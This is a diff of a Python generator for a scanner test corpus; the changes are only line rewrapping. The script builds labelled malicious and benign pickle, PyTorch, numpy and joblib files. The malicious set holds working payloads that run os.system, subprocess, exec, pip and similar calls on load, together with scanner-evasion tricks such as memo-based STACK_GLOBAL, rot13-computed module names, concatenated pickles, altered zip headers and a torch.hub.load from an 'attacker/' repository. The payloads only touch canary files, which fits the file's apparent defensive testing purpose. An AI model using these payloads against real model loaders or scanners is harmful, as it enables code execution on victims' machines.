@@ -139,51 +139,141 @@ def malicious(out: Path) -> list[dict]:
     add("posix_system", _p(_call("posix", "system", _u(_touch(canary("posix_system"))))), "posix.system (os alias)")
     add("nt_system", _p(_call("nt", "system", _u(_touch(canary("nt_system"))))), "nt.system (os alias on Windows)")
     add("builtins_exec", _p(_call("builtins", "exec", _u(_pyfile(canary("builtins_exec"))))), "builtins.exec")
-    add("reduce_eval_py2", _p(_call("__builtin__", "eval", _u(_pyfile(canary("reduce_eval_py2"))))), "__reduce__ returning eval, py2 __builtin__ alias")
-    add("builtins_compile_exec", _p(_g("builtins", "exec") + b"(" + _call("builtins", "compile", _u(_pyfile(canary("builtins_compile_exec"))), _u("<x>"), _u("exec")) + b"tR"), "builtins.compile + exec")
-    add("subprocess_popen", _p(_g("subprocess", "Popen") + b"((" + _u("touch") + _u(str(canary("subprocess_popen"))) + b"ltR"), "subprocess.Popen with an argv list")
-    add("subprocess_check_output", _p(_g("subprocess", "check_output") + b"((" + _u("touch") + _u(str(canary("subprocess_check_output"))) + b"ltR"), "subprocess.check_output")
-    add("runpy_run_code", _p(_g("runpy", "_run_code") + b"(" + _u(_pyfile(canary("runpy_run_code"))) + b"}tR"), "runpy._run_code (exec of a string)")
-    add("pip_main", _p(_g("pip", "main") + b"((" + _u("install") + _u("--target") + _u(str(canary("pip_main"))) + _u("nonexistent-pkg") + b"ltR"), "pip.main (missing from early denylists, CVE-2025-1716)")
-    add("pip_internal_main", _p(_g("pip._internal", "main") + b"((" + _u("download") + _u(str(canary("pip_internal_main"))) + b"ltR"), "pip._internal.main")
+    add(
+        "reduce_eval_py2",
+        _p(_call("__builtin__", "eval", _u(_pyfile(canary("reduce_eval_py2"))))),
+        "__reduce__ returning eval, py2 __builtin__ alias",
+    )
+    add(
+        "builtins_compile_exec",
+        _p(
+            _g("builtins", "exec")
+            + b"("
+            + _call("builtins", "compile", _u(_pyfile(canary("builtins_compile_exec"))), _u("<x>"), _u("exec"))
+            + b"tR"
+        ),
+        "builtins.compile + exec",
+    )
+    add(
+        "subprocess_popen",
+        _p(_g("subprocess", "Popen") + b"((" + _u("touch") + _u(str(canary("subprocess_popen"))) + b"ltR"),
+        "subprocess.Popen with an argv list",
+    )
+    add(
+        "subprocess_check_output",
+        _p(_g("subprocess", "check_output") + b"((" + _u("touch") + _u(str(canary("subprocess_check_output"))) + b"ltR"),
+        "subprocess.check_output",
+    )
+    add(
+        "runpy_run_code",
+        _p(_g("runpy", "_run_code") + b"(" + _u(_pyfile(canary("runpy_run_code"))) + b"}tR"),
+        "runpy._run_code (exec of a string)",
+    )
+    add(
+        "pip_main",
+        _p(_g("pip", "main") + b"((" + _u("install") + _u("--target") + _u(str(canary("pip_main"))) + _u("nonexistent-pkg") + b"ltR"),
+        "pip.main (missing from early denylists, CVE-2025-1716)",
+    )
+    add(
+        "pip_internal_main",
+        _p(_g("pip._internal", "main") + b"((" + _u("download") + _u(str(canary("pip_internal_main"))) + b"ltR"),
+        "pip._internal.main",
+    )
     add("webbrowser_open", _p(_call("webbrowser", "open", _u("file://" + str(canary("webbrowser_open"))))), "webbrowser.open")
     # getattr(importlib.import_module("os"), "system")(cmd)
     add(
         "importlib_getattr",
-        _p(_g("builtins", "getattr") + b"(" + _call("importlib", "import_module", _u("os")) + _u("system") + b"tR(" + _u(_touch(canary("importlib_getattr"))) + b"tR"),
+        _p(
+            _g("builtins", "getattr")
+            + b"("
+            + _call("importlib", "import_module", _u("os"))
+            + _u("system")
+            + b"tR("
+            + _u(_touch(canary("importlib_getattr")))
+            + b"tR"
+        ),
         "importlib.import_module + builtins.getattr chain, calling a computed callable",
     )
     add(
         "dunder_import_getattr",
-        _p(_g("builtins", "getattr") + b"(" + _call("builtins", "__import__", _u("os")) + _u("system") + b"tR(" + _u(_touch(canary("dunder_import_getattr"))) + b"tR"),
+        _p(
+            _g("builtins", "getattr")
+            + b"("
+            + _call("builtins", "__import__", _u("os"))
+            + _u("system")
+            + b"tR("
+            + _u(_touch(canary("dunder_import_getattr")))
+            + b"tR"
+        ),
         "builtins.__import__ + getattr",
     )
     # STACK_GLOBAL whose strings come from the memo, with a decoy in between
     add(
         "stack_global_memo",
-        _p(_u("os") + b"\x94" + _u("system") + b"\x94" + b"00" + _u("decoy") + b"0" + b"h\x00h\x01\x93" + _u(_touch(canary("stack_global_memo"))) + b"\x85R", 4),
+        _p(
+            _u("os")
+            + b"\x94"
+            + _u("system")
+            + b"\x94"
+            + b"00"
+            + _u("decoy")
+            + b"0"
+            + b"h\x00h\x01\x93"
+            + _u(_touch(canary("stack_global_memo")))
+            + b"\x85R",
+            4,
+        ),
         "STACK_GLOBAL with module/name fetched from the memo (BINGET)",
     )
     add(
         "stack_global_long_binget",
-        _p(_u("posix") + b"r\x00\x00\x01\x00" + _u("system") + b"r\x01\x00\x01\x00" + b"00" + b"j\x00\x00\x01\x00j\x01\x00\x01\x00\x93" + _u(_touch(canary("stack_global_long_binget"))) + b"\x85R", 4),
+        _p(
+            _u("posix")
+            + b"r\x00\x00\x01\x00"
+            + _u("system")
+            + b"r\x01\x00\x01\x00"
+            + b"00"
+            + b"j\x00\x00\x01\x00j\x01\x00\x01\x00\x93"
+            + _u(_touch(canary("stack_global_long_binget")))
+            + b"\x85R",
+            4,
+        ),
         "STACK_GLOBAL via LONG_BINPUT/LONG_BINGET with large memo indices",
     )
     # module name computed at load time: codecs.decode("bf", "rot13") == "os"
     add(
         "stack_global_computed",
-        _p(_call("_codecs", "decode", _u("bf"), _u("rot13")) + _u("system") + b"\x93" + _u(_touch(canary("stack_global_computed"))) + b"\x85R", 4),
+        _p(
+            _call("_codecs", "decode", _u("bf"), _u("rot13"))
+            + _u("system")
+            + b"\x93"
+            + _u(_touch(canary("stack_global_computed")))
+            + b"\x85R",
+            4,
+        ),
         "STACK_GLOBAL with an operand built by a call (unresolvable)",
     )
     add("inst_opcode", b"(V" + _touch(canary("inst_opcode")).encode() + b"\nios\nsystem\n.", "INST opcode (protocol 0)")
     add("obj_opcode", b"(cos\nsystem\nV" + _touch(canary("obj_opcode")).encode() + b"\no.", "OBJ opcode (protocol 1)")
     add("proto0_text", b"cos\nsystem\n(S'" + _touch(canary("proto0_text")).encode() + b"'\ntR.", "protocol 0 text pickle, no PROTO opcode")
-    add("newobj_popen", _p(_g("subprocess", "Popen") + b"(" + b"(" + _u("touch") + _u(str(canary("newobj_popen"))) + b"l" + b"t\x81"), "NEWOBJ on subprocess.Popen")
-    add("newobj_ex_popen", _p(_g("subprocess", "Popen") + b"(" + b"(" + _u("touch") + _u(str(canary("newobj_ex_popen"))) + b"l" + b"t}\x92", 4), "NEWOBJ_EX on subprocess.Popen")
+    add(
+        "newobj_popen",
+        _p(_g("subprocess", "Popen") + b"(" + b"(" + _u("touch") + _u(str(canary("newobj_popen"))) + b"l" + b"t\x81"),
+        "NEWOBJ on subprocess.Popen",
+    )
+    add(
+        "newobj_ex_popen",
+        _p(_g("subprocess", "Popen") + b"(" + b"(" + _u("touch") + _u(str(canary("newobj_ex_popen"))) + b"l" + b"t}\x92", 4),
+        "NEWOBJ_EX on subprocess.Popen",
+    )
     benign_first = pickle.dumps({"weights": [1.0, 2.0]}, protocol=2)
     add("concat_second", benign_first + os_system("concat_second"), "payload in the 2nd of concatenated pickles")
     add("concat_third", benign_first + benign_first + os_system("concat_third", 4), "payload in the 3rd of concatenated pickles")
-    add("torch_hub_load", _p(_call("torch.hub", "load", _u("attacker/" + canary("torch_hub_load").name), _u("model"))), "torch.hub.load (remote code)")
+    add(
+        "torch_hub_load",
+        _p(_call("torch.hub", "load", _u("attacker/" + canary("torch_hub_load").name), _u("model"))),
+        "torch.hub.load (remote code)",
+    )
     add("torch_load_recursion", _p(_call("torch", "load", _u(str(canary("torch_load_recursion"))))), "torch.load recursion on another file")
     add("torch_jit_load", _p(_call("torch.jit", "load", _u(str(canary("torch_jit_load"))))), "torch.jit.load")
     add(
@@ -198,41 +288,98 @@ def malicious(out: Path) -> list[dict]:
     )
     add(
         "operator_attrgetter",
-        _p(_g("operator", "attrgetter") + b"(" + _u("system") + b"tR(" + _call("importlib", "import_module", _u("os")) + b"tR(" + _u(_touch(canary("operator_attrgetter"))) + b"tR"),
+        _p(
+            _g("operator", "attrgetter")
+            + b"("
+            + _u("system")
+            + b"tR("
+            + _call("importlib", "import_module", _u("os"))
+            + b"tR("
+            + _u(_touch(canary("operator_attrgetter")))
+            + b"tR"
+        ),
         "operator.attrgetter getattr chain",
     )
     add(
         "operator_methodcaller",
-        _p(_g("_operator", "methodcaller") + b"(" + _u("system") + _u(_touch(canary("operator_methodcaller"))) + b"tR(" + _call("importlib", "import_module", _u("os")) + b"tR"),
+        _p(
+            _g("_operator", "methodcaller")
+            + b"("
+            + _u("system")
+            + _u(_touch(canary("operator_methodcaller")))
+            + b"tR("
+            + _call("importlib", "import_module", _u("os"))
+            + b"tR"
+        ),
         "_operator.methodcaller",
     )
-    add("numpy_runstring", _p(_call("numpy.testing._private.utils", "runstring", _u(_pyfile(canary("numpy_runstring"))), b"}")), "numpy.testing runstring (exec), not in typical denylists")
+    add(
+        "numpy_runstring",
+        _p(_call("numpy.testing._private.utils", "runstring", _u(_pyfile(canary("numpy_runstring"))), b"}")),
+        "numpy.testing runstring (exec), not in typical denylists",
+    )
     add("timeit_exec", _p(_call("timeit", "timeit", _u(_pyfile(canary("timeit_exec"))), b"K\x01")), "timeit.timeit exec's its statement")
     add("cprofile_run", _p(_call("cProfile", "run", _u(_pyfile(canary("cprofile_run"))))), "cProfile.run exec's its argument")
     add("pickle_loads", _p(_g("pickle", "loads") + b"(" + _bs(os_system("pickle_loads")) + b"tR"), "pickle.loads recursion")
-    add("call_then_break", _p(_call("os", "system", _u(_touch(canary("call_then_break")))) + b"00"), "payload runs, then the stream breaks (stack underflow)")
+    add(
+        "call_then_break",
+        _p(_call("os", "system", _u(_touch(canary("call_then_break")))) + b"00"),
+        "payload runs, then the stream breaks (stack underflow)",
+    )
     add("code_interact", _p(_g("code", "InteractiveInterpreter") + b")R" + b"0" + _u("x")), "code.InteractiveInterpreter")
     add("ctypes_cdll", _p(_call("ctypes", "CDLL", _u(str(canary("ctypes_cdll"))))), "ctypes.CDLL (load a native library)")
     add("shutil_copy", _p(_call("shutil", "copyfile", _u("/etc/hostname"), _u(str(canary("shutil_copy"))))), "shutil file write")
     add("socket_connect", _p(_call("socket", "create_connection", b"(" + _u("127.0.0.1") + b"K\x01t")), "socket.create_connection")
-    add("urllib_urlopen", _p(_call("urllib.request", "urlopen", _u("http://127.0.0.1:1/" + canary("urllib_urlopen").name))), "urllib.request.urlopen")
-    add("proto4_dotted_name", _p(_u("torch") + _u("serialization.os.system") + b"\x93" + _u(_touch(canary("proto4_dotted_name"))) + b"\x85R", 4), "protocol 4 dotted name reaching os.system through a module attribute")
-    add("dunder_globals", _p(_u("torch._utils") + _u("_rebuild_tensor_v2.__globals__") + b"\x93" + b"0" + os_system("dunder_globals")[2:-1], 4), "dotted name through __globals__")
+    add(
+        "urllib_urlopen",
+        _p(_call("urllib.request", "urlopen", _u("http://127.0.0.1:1/" + canary("urllib_urlopen").name))),
+        "urllib.request.urlopen",
+    )
+    add(
+        "proto4_dotted_name",
+        _p(_u("torch") + _u("serialization.os.system") + b"\x93" + _u(_touch(canary("proto4_dotted_name"))) + b"\x85R", 4),
+        "protocol 4 dotted name reaching os.system through a module attribute",
+    )
+    add(
+        "dunder_globals",
+        _p(_u("torch._utils") + _u("_rebuild_tensor_v2.__globals__") + b"\x93" + b"0" + os_system("dunder_globals")[2:-1], 4),
+        "dotted name through __globals__",
+    )
     add(
         "build_monkeypatch",
         _p(_g("torch", "_utils") + b"N}" + _u("_rebuild_tensor_v2") + _g("os", "system") + b"s\x86b" + b"0" + _u("ok")),
         "BUILD on an imported module, replacing a rebuild helper with os.system",
     )
     add("ext_opcode", _p(b"\x82\x01(" + _u(_touch(canary("ext_opcode"))) + b"tR"), "EXT1: global from the copyreg extension registry")
-    add("getattr_chain_builtins", _p(_g("builtins", "getattr") + b"(" + _g("builtins", "__builtins__") + _u("eval") + b"tR(" + _u(_pyfile(canary("getattr_chain_builtins"))) + b"tR"), "getattr on builtins module to reach eval")
+    add(
+        "getattr_chain_builtins",
+        _p(
+            _g("builtins", "getattr")
+            + b"("
+            + _g("builtins", "__builtins__")
+            + _u("eval")
+            + b"tR("
+            + _u(_pyfile(canary("getattr_chain_builtins")))
+            + b"tR"
+        ),
+        "getattr on builtins module to reach eval",
+    )
     add("sys_modules", _p(_g("sys", "modules") + b"0" + _u("x")), "sys.modules access")
-    add("asyncio_subprocess", _p(_call("asyncio.subprocess", "create_subprocess_shell", _u(_touch(canary("asyncio_subprocess"))))), "asyncio subprocess")
+    add(
+        "asyncio_subprocess",
+        _p(_call("asyncio.subprocess", "create_subprocess_shell", _u(_touch(canary("asyncio_subprocess"))))),
+        "asyncio subprocess",
+    )
     add("multiprocessing_process", _p(_call("multiprocessing", "Process") + b"0" + _u("x")), "multiprocessing")
     add("pty_spawn", _p(_call("pty", "spawn", _u("/bin/true"))), "pty.spawn")
     add("marshal_loads", _p(_call("marshal", "loads", _bs(b"\xe3"))), "marshal.loads of code objects")
     add("types_functiontype", _p(_call("types", "FunctionType", b"N", b"}")), "types.FunctionType construction")
     add("tempfile_write", _p(_call("tempfile", "NamedTemporaryFile") + b"0" + _u("x")), "tempfile")
-    add("setattr_builtin", _p(_call("builtins", "setattr", _g("torch", "_utils"), _u("_rebuild_tensor_v2"), _g("os", "system"))), "builtins.setattr monkey-patch")
+    add(
+        "setattr_builtin",
+        _p(_call("builtins", "setattr", _g("torch", "_utils"), _u("_rebuild_tensor_v2"), _g("os", "system"))),
+        "builtins.setattr monkey-patch",
+    )
 
     # containers ---------------------------------------------------------------
     p = root / "torch_zip_other_member.pt"
@@ -240,15 +387,25 @@ def malicious(out: Path) -> list[dict]:
     items.append({"path": str(p.relative_to(out)), "verdict": "malicious", "technique": "payload in a non-data.pkl member of a torch zip"})
     p = root / "torch_zip_unnamed_member.pt"
     _torch_zip_with(p, _p(b"}", 2), [("archive/code/__torch__/model.bin", os_system("torch_zip_unnamed_member"))])
-    items.append({"path": str(p.relative_to(out)), "verdict": "malicious", "technique": "pickle content in a zip member without .pkl extension"})
+    items.append(
+        {"path": str(p.relative_to(out)), "verdict": "malicious", "technique": "pickle content in a zip member without .pkl extension"}
+    )
     p = root / "torch_zip_header_mismatch.pt"
     _torch_zip_with(p, os_system("torch_zip_header_mismatch"))
     _patch_local_name(p, b"archive/data.pkl", b"archive/data.pkX")
-    items.append({"path": str(p.relative_to(out)), "verdict": "malicious", "technique": "torch zip whose local header name differs from the central directory"})
+    items.append(
+        {
+            "path": str(p.relative_to(out)),
+            "verdict": "malicious",
+            "technique": "torch zip whose local header name differs from the central directory",
+        }
+    )
     p = root / "torch_zip_flag_bits.pt"
     _torch_zip_with(p, os_system("torch_zip_flag_bits"))
     _set_flag_bits(p, b"archive/data.pkl", 0x1)
-    items.append({"path": str(p.relative_to(out)), "verdict": "malicious", "technique": "torch zip with the encryption flag bit set on data.pkl"})
+    items.append(
+        {"path": str(p.relative_to(out)), "verdict": "malicious", "technique": "torch zip with the encryption flag bit set on data.pkl"}
+    )
     p = root / "torch_zip_deflated.pt"
     with zipfile.ZipFile(p, "w", compression=zipfile.ZIP_DEFLATED) as zf:
         zf.writestr("archive/data.pkl", os_system("torch_zip_deflated"))
@@ -262,9 +419,24 @@ def malicious(out: Path) -> list[dict]:
     proto_version = pickle.dumps(1001, protocol=2)
     sys_info = pickle.dumps({"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}, protocol=2)
     keys = pickle.dumps([], protocol=2)
-    add("legacy_payload_in_object", magic + proto_version + sys_info + os_system("legacy_payload_in_object") + keys, "legacy torch format, payload in the object pickle", filename="legacy_object.bin")
-    add("legacy_payload_in_keys", magic + proto_version + sys_info + pickle.dumps({}, protocol=2) + os_system("legacy_payload_in_keys"), "legacy torch format, payload in the storage-keys pickle (5th)", filename="legacy_keys.bin")
-    add("legacy_payload_in_sysinfo", magic + proto_version + os_system("legacy_payload_in_sysinfo") + pickle.dumps({}, protocol=2) + keys, "legacy torch format, payload in sys_info", filename="legacy_sysinfo.bin")
+    add(
+        "legacy_payload_in_object",
+        magic + proto_version + sys_info + os_system("legacy_payload_in_object") + keys,
+        "legacy torch format, payload in the object pickle",
+        filename="legacy_object.bin",
+    )
+    add(
+        "legacy_payload_in_keys",
+        magic + proto_version + sys_info + pickle.dumps({}, protocol=2) + os_system("legacy_payload_in_keys"),
+        "legacy torch format, payload in the storage-keys pickle (5th)",
+        filename="legacy_keys.bin",
+    )
+    add(
+        "legacy_payload_in_sysinfo",
+        magic + proto_version + os_system("legacy_payload_in_sysinfo") + pickle.dumps({}, protocol=2) + keys,
+        "legacy torch format, payload in sys_info",
+        filename="legacy_sysinfo.bin",
+    )
     add("npy_object", _npy_object(os_system("npy_object")), "numpy .npy with object dtype", filename="array.npy")
     p = root / "arrays.npz"
     _zip(p, [("clean.npy", _npy_object(pickle.dumps([1, 2], protocol=2))), ("evil.npy", _npy_object(os_system("npz_member")))])
@@ -277,7 +449,12 @@ def malicious(out: Path) -> list[dict]:
     items.append({"path": str(p.relative_to(out)), "verdict": "malicious", "technique": "torch zip inside a zip"})
     import gzip
 
-    add("gzip_pickle", gzip.compress(os_system("gzip_pickle"), mtime=0), "gzip-compressed pickle (joblib.load decompresses)", filename="model.joblib")
+    add(
+        "gzip_pickle",
+        gzip.compress(os_system("gzip_pickle"), mtime=0),
+        "gzip-compressed pickle (joblib.load decompresses)",
+        filename="model.joblib",
+    )
     p = root / "duplicate_member.pt"
     import warnings
 
@@ -342,7 +519,13 @@ def benign(out: Path) -> list[dict]:
             path = out / verdict / ((rel + ".legacy.bin") if legacy else (rel + ".pt"))
             path.parent.mkdir(parents=True, exist_ok=True)
             torch.save(obj, path, _use_new_zipfile_serialization=not legacy)
-            items.append({"path": str(path.relative_to(out)), "verdict": verdict, "technique": technique + (" (legacy format)" if legacy else " (zip format)")})
+            items.append(
+                {
+                    "path": str(path.relative_to(out)),
+                    "verdict": verdict,
+                    "technique": technique + (" (legacy format)" if legacy else " (zip format)"),
+                }
+            )
 
     modules = {
         "linear": nn.Linear(8, 4),
@@ -359,18 +542,42 @@ def benign(out: Path) -> list[dict]:
     }
     for name, m in modules.items():
         save(m.state_dict(), "state_dict/" + name, "state_dict of nn." + type(m).__name__)
-    dtypes = [torch.float16, torch.bfloat16, torch.float64, torch.int8, torch.uint8, torch.int16, torch.int32, torch.int64, torch.bool, torch.complex64, torch.complex128]
+    dtypes = [
+        torch.float16,
+        torch.bfloat16,
+        torch.float64,
+        torch.int8,
+        torch.uint8,
+        torch.int16,
+        torch.int32,
+        torch.int64,
+        torch.bool,
+        torch.complex64,
+        torch.complex128,
+    ]
     dtypes += [getattr(torch, d) for d in ("float8_e4m3fn", "float8_e5m2", "uint16", "uint32", "uint64") if hasattr(torch, d)]
     save({str(d): torch.ones(3).to(d) for d in dtypes}, "dtypes/all", "tensors of every dtype")
-    save({"dtype": torch.float16, "size": torch.Size([2, 3]), "device": torch.device("cpu")}, "misc/torch_values", "torch.dtype, torch.Size, torch.device values")
+    save(
+        {"dtype": torch.float16, "size": torch.Size([2, 3]), "device": torch.device("cpu")},
+        "misc/torch_values",
+        "torch.dtype, torch.Size, torch.device values",
+    )
     q = torch.quantize_per_tensor(torch.rand(4), 0.1, 10, torch.quint8)
     qc = torch.quantize_per_channel(torch.rand(2, 3), torch.tensor([0.1, 0.2]), torch.tensor([0, 1]), 0, torch.qint8)
     save({"q": q, "qc": qc}, "dtypes/quantized", "quantized tensors")
     sp = torch.eye(3).to_sparse()
     save({"coo": sp, "csr": torch.eye(3).to_sparse_csr()}, "misc/sparse", "sparse COO/CSR tensors")
     save({"nested": ((torch.ones(2), [torch.zeros(1)]), {"k": (torch.ones(1),)})}, "misc/nested", "nested tuples/lists/dicts of tensors")
-    save({"p": nn.Parameter(torch.ones(2)), "p_nograd": nn.Parameter(torch.ones(2), requires_grad=False)}, "misc/parameters", "nn.Parameter values")
-    save({"view": torch.arange(10.0)[2:5], "t": torch.ones(2, 3).t(), "cl": torch.ones(1, 2, 3, 3).to(memory_format=torch.channels_last)}, "misc/views", "views, transposes, channels_last")
+    save(
+        {"p": nn.Parameter(torch.ones(2)), "p_nograd": nn.Parameter(torch.ones(2), requires_grad=False)},
+        "misc/parameters",
+        "nn.Parameter values",
+    )
+    save(
+        {"view": torch.arange(10.0)[2:5], "t": torch.ones(2, 3).t(), "cl": torch.ones(1, 2, 3, 3).to(memory_format=torch.channels_last)},
+        "misc/views",
+        "views, transposes, channels_last",
+    )
     lin = nn.Linear(4, 2)
     opt = torch.optim.Adam(lin.parameters(), lr=1e-3)
     lin(torch.ones(1, 4)).sum().backward()
@@ -379,8 +586,28 @@ def benign(out: Path) -> list[dict]:
     sgd = torch.optim.SGD(lin.parameters(), lr=0.1, momentum=0.9)
     sgd.step()
     save(sgd.state_dict(), "optimizer/sgd", "SGD optimizer state_dict")
-    save({"model": modules["linear"].state_dict(), "optimizer": opt.state_dict(), "epoch": 3, "step": 1000, "best": 0.5, "args": {"lr": 1e-3, "names": ["a", "b"]}}, "checkpoint/train", "training checkpoint dict")
-    save({"np": np.arange(6, dtype=np.float32).reshape(2, 3), "np_scalar": np.float64(1.5), "np_int": np.int64(3), "np_bool": np.bool_(True)}, "numpy/in_torch", "numpy arrays/scalars inside torch.save")
+    save(
+        {
+            "model": modules["linear"].state_dict(),
+            "optimizer": opt.state_dict(),
+            "epoch": 3,
+            "step": 1000,
+            "best": 0.5,
+            "args": {"lr": 1e-3, "names": ["a", "b"]},
+        },
+        "checkpoint/train",
+        "training checkpoint dict",
+    )
+    save(
+        {
+            "np": np.arange(6, dtype=np.float32).reshape(2, 3),
+            "np_scalar": np.float64(1.5),
+            "np_int": np.int64(3),
+            "np_bool": np.bool_(True),
+        },
+        "numpy/in_torch",
+        "numpy arrays/scalars inside torch.save",
+    )
     save({"empty": torch.empty(0), "scalar": torch.tensor(3.0), "big_int": torch.tensor([2**62])}, "misc/edge", "empty and scalar tensors")
 
     # review: legitimate but references classes outside the allowlist
@@ -392,7 +619,13 @@ def benign(out: Path) -> list[dict]:
     # plain pickle of a tensor: storages go through torch.storage._load_from_bytes (a nested torch.save)
     path = out / "benign/misc/pickled_tensor.pkl"
     path.write_bytes(pickle.dumps({"t": torch.ones(3)}, protocol=4))
-    items.append({"path": str(path.relative_to(out)), "verdict": "benign", "technique": "pickle.dumps of a tensor (nested torch.save via _load_from_bytes)"})
+    items.append(
+        {
+            "path": str(path.relative_to(out)),
+            "verdict": "benign",
+            "technique": "pickle.dumps of a tensor (nested torch.save via _load_from_bytes)",
+        }
+    )
 
     # numpy
     nd = out / "benign/numpy"
@@ -406,13 +639,29 @@ def benign(out: Path) -> list[dict]:
         items.append({"path": "benign/numpy/" + name, "verdict": "benign", "technique": "numpy " + name})
     for proto in range(6):
         path = nd / ("pickled_array_p%d.pkl" % proto)
-        path.write_bytes(pickle.dumps({"a": np.arange(4.0), "s": np.float32(2.0), "o": np.array([None, "x"], dtype=object)}, protocol=proto))
+        path.write_bytes(
+            pickle.dumps({"a": np.arange(4.0), "s": np.float32(2.0), "o": np.array([None, "x"], dtype=object)}, protocol=proto)
+        )
         items.append({"path": str(path.relative_to(out)), "verdict": "benign", "technique": "pickled numpy arrays, protocol %d" % proto})
 
     # plain python data, every protocol
     pd = out / "benign/python"
     pd.mkdir(parents=True, exist_ok=True)
-    value = {"ints": [0, 1, -1, 2**70], "floats": [0.5, float("inf")], "s": "héllo", "b": b"\x00\xff", "t": (1, (2,)), "set": {1, 2}, "fs": frozenset([3]), "od": collections.OrderedDict(a=1), "dd": None, "c": 1 + 2j, "ba": bytearray(b"x"), "sl": slice(1, 2), "rng": range(3)}
+    value = {
+        "ints": [0, 1, -1, 2**70],
+        "floats": [0.5, float("inf")],
+        "s": "héllo",
+        "b": b"\x00\xff",
+        "t": (1, (2,)),
+        "set": {1, 2},
+        "fs": frozenset([3]),
+        "od": collections.OrderedDict(a=1),
+        "dd": None,
+        "c": 1 + 2j,
+        "ba": bytearray(b"x"),
+        "sl": slice(1, 2),
+        "rng": range(3),
+    }
     for proto in range(6):
         path = pd / ("data_p%d.pkl" % proto)
         path.write_bytes(pickle.dumps(value, protocol=proto))
@@ -424,7 +673,14 @@ def benign(out: Path) -> list[dict]:
 
         jd = out / "benign/joblib"
         jd.mkdir(parents=True, exist_ok=True)
-        obj = {"w": np.arange(1000, dtype=np.float64), "i": np.arange(7, dtype=np.int32), "u": np.array(["ab", "c"]), "rec": np.zeros(2, dtype=[("x", "<i2"), ("y", "<f4")]), "o": np.array(["a", None], dtype=object), "after": [1, 2, 3]}
+        obj = {
+            "w": np.arange(1000, dtype=np.float64),
+            "i": np.arange(7, dtype=np.int32),
+            "u": np.array(["ab", "c"]),
+            "rec": np.zeros(2, dtype=[("x", "<i2"), ("y", "<f4")]),
+            "o": np.array(["a", None], dtype=object),
+            "after": [1, 2, 3],
+        }
         joblib.dump(obj, jd / "model.joblib")
         joblib.dump(obj, jd / "model_p2.joblib", protocol=2)
         joblib.dump(obj, jd / "model_zlib.joblib", compress=3)
